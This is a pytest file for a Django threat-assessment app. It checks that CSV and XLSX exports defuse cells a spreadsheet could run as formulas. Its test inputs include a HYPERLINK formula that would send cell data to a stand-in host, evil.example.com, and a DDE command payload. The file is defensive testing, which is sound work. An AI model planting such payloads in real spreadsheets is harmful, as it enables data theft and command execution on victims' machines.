"""threats.csv and threats.xlsx: the same columns, and no cell a spreadsheet would run as
a formula, whatever disguise the text wears."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from django.utils.text import slugify
from openpyxl import load_workbook

from assessments.interchange.spreadsheet import HEADER, XLSX_CONTENT_TYPE, _cell
from tests.factories import ComponentTagFactory, ThreatFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example.com/?d="&A1,"Details")'


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1+2",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\tanything",
        "   =1+1",  # leading spaces
        "\u00a0=1",  # no-break space
        "\u3000=1",  # ideographic space
        "\u200b=1",  # zero-width space
        "\ufeff@x",  # byte order mark
        "\u202e=1",  # right-to-left override
        "\uff1dHYPERLINK()",  # full-width ＝
        "\uff0b1",  # ＋
        "\uff0d1",  # －
        "\uff20SUM(1)",  # ＠
        "\ufe66 1",  # small equals sign
        "\u207a1",  # superscript plus
        "\u207b1",  # superscript minus
        "\u22121",  # minus sign
        "\u20131",  # en dash
        "\u2796 1",  # heavy minus sign
    ],
)
def test_text_a_spreadsheet_could_read_as_a_formula_is_defused(text):
    assert _cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Cholera outbreak", "a=b", "1-2", "e-mail", "  leading spaces", "", "'quoted", "٣"]
)
def test_plain_text_is_left_alone(text):
    assert _cell(text) == text


@pytest.fixture
def threats(assessment):
    seizures = ThreatFactory(
        assessment=assessment,
        title=HYPERLINK,
        likelihood=4,
        severity=5,
        urgency=3,
        source_actor="\uff0bM23 patrols",
        root_causes="  @SUM(land tenure)",
    )
    ComponentTagFactory(threat=seizures, rationale="=cmd|' /C calc'!A0")
    ThreatFactory(assessment=assessment, title="Cholera\x01 outbreak\x1f")
    return assessment


def _xlsx(client, assessment):
    response = client.get(reverse("assessments:threats_xlsx", args=[assessment.pk]))
    assert response.status_code == 200
    return response, load_workbook(io.BytesIO(response.content))


def test_threats_xlsx_has_the_csv_columns_and_defused_cells(client, login, threats, practitioner):
    login(practitioner)
    response, book = _xlsx(client, threats)

    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="{slugify(threats.title)[:60]}-threats-{today}.xlsx"'
    )
    sheet = book["Threats"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == HEADER
    seizures = dict(zip(HEADER, rows[1], strict=True))
    assert seizures["title"] == "'" + HYPERLINK
    assert seizures["source_actor"] == "'\uff0bM23 patrols"
    assert seizures["root_causes"] == "'  @SUM(land tenure)"
    assert seizures["tag_rationales"].endswith(": =cmd|' /C calc'!A0")  # not at the start
    # Numbers stay numbers, to sort and sum.
    assert (seizures["likelihood"], seizures["severity"], seizures["urgency"]) == (4, 5, 3)
    assert seizures["risk_score"] == 20
    # No cell of the sheet is a formula.
    types = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in types
    assert types <= {"s", "inlineStr", "n"}
    # Control characters XML cannot carry are replaced, not a failed download.
    assert rows[2][1] == "Cholera\ufffd outbreak\ufffd"


def test_threats_xlsx_and_csv_carry_the_same_cells(client, login, threats, practitioner):
    login(practitioner)
    _response, book = _xlsx(client, threats)
    csv_response = client.get(reverse("assessments:threats_csv", args=[threats.pk]))

    from_csv = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8"))))
    from_xlsx = [
        ["" if cell.value is None else str(cell.value) for cell in row]
        for row in book.active.iter_rows()
    ]
    # XLSX cannot carry the control characters the CSV keeps.
    from_csv[2][1] = from_csv[2][1].replace("\x01", "\ufffd").replace("\x1f", "\ufffd")
    assert from_xlsx == from_csv


def test_threats_xlsx_of_an_assessment_without_threats_is_the_header(
    client, login, assessment, practitioner
):
    _response, book = _xlsx(login(practitioner), assessment)

    assert [[c.value for c in row] for row in book.active.iter_rows()] == [HEADER]


def test_the_overview_links_both_spreadsheets(client, login, assessment, practitioner):
    page = login(practitioner).get(reverse("assessments:detail", args=[assessment.pk]))

    assert reverse("assessments:threats_csv", args=[assessment.pk]) in page.content.decode()
    assert reverse("assessments:threats_xlsx", args=[assessment.pk]) in page.content.decode()
